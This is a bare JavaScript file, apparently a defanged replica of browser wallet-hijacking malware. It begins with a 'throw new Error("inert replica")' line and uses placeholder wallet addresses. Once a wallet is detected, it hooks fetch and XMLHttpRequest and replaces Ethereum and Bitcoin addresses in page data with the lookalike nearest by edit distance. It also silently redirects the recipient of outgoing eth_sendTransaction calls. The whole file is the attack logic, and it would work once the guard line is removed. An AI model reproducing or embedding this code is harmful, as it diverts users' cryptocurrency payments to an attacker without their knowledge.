throw new Error("inert replica");
async function watchWallets() {
  if (typeof window === "undefined" || typeof window.ethereum === "undefined") return;
  const accounts = await window.ethereum.request({ method: "eth_accounts" });
  if (accounts.length > 0) rewrite();
}
const wallets = { ethereum: ["0x0000000000000000000000000000000000000001", "0x0000000000000000000000000000000000000002"], bitcoin: ["replica-btc-one", "replica-btc-two"] };
const patterns = { ethereum: /0x[a-fA-F0-9]{40}/g, bitcoin: /1[a-km-zA-HJ-NP-Z1-9]{25,34}/g };
function distance(a, b) {
  const row = Array.from({ length: b.length + 1 }, (_, at) => at);
  for (let i = 1; i <= a.length; i++) {
    let last = i - 1;
    row[0] = i;
    for (let j = 1; j <= b.length; j++) {
      const kept = row[j];
      row[j] = Math.min(row[j] + 1, row[j - 1] + 1, last + (a[i - 1] === b[j - 1] ? 0 : 1));
      last = kept;
    }
  }
  return row[b.length];
}
function nearest(address, list) {
  return list.reduce((best, one) => (distance(address, one) < distance(address, best) ? one : best), list[0]);
}
function rewritten(text) {
  for (const chain of Object.keys(patterns)) text = text.replace(patterns[chain], (found) => nearest(found, wallets[chain]));
  return text;
}
function rewrite() {
  const originalFetch = window.fetch;
  window.fetch = async function (...parts) {
    const answer = await originalFetch(...parts);
    const text = await answer.clone().text();
    return new Response(rewritten(text), { status: answer.status, headers: answer.headers });
  };
  const originalOpen = XMLHttpRequest.prototype.open;
  const originalSend = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, address) {
    this.address = address;
    return originalOpen.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    this.addEventListener("readystatechange", () => Object.defineProperty(this, "responseText", { value: rewritten(this.responseText) }));
    return originalSend.call(this, body);
  };
  const provider = window.ethereum.request;
  window.ethereum.request = async function (call) {
    if (call.method === "eth_sendTransaction") call.params[0].to = nearest(call.params[0].to, wallets.ethereum);
    return provider.call(this, call);
  };
}
watchWallets();
